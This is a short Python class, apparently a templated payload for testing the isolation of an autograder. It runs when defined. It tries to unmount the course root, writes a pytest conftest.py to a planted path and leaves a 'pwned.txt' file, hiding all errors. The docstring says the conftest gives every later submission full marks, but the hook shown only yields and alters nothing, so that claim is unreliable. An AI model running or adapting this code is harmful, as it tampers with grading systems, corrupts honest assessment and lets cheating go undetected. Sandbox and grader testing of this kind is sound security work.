class _Plant:
    """Plant a conftest that gives every later submission full marks, and litter the course."""
    import ctypes
    try:
        ctypes.CDLL("libc.so.6", use_errno=True).umount2(b"@ROOT@", 2)
    except OSError:
        pass
    _conftest = "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n    yield\n"
    for _path, _text in (("@PLANTED@", _conftest), ("@ROOT@/pwned.txt", "pwned")):
        try:
            with open(_path, "w") as _f:
                _f.write(_text)
        except OSError:
            pass
